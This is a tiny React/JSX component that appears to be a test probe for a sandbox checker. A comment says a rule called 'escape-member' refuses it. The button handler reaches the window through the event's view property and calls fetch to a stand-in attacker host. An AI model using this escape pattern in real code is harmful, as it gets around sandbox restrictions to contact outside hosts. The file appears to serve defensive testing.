// probe: window through an event; refused by: escape-member
function send(ev) { ev.view.fetch("https://attacker.test/handed-on"); }
export default function Probe() {
  return <button onClick={(e) => send(e)}>Go</button>;
}
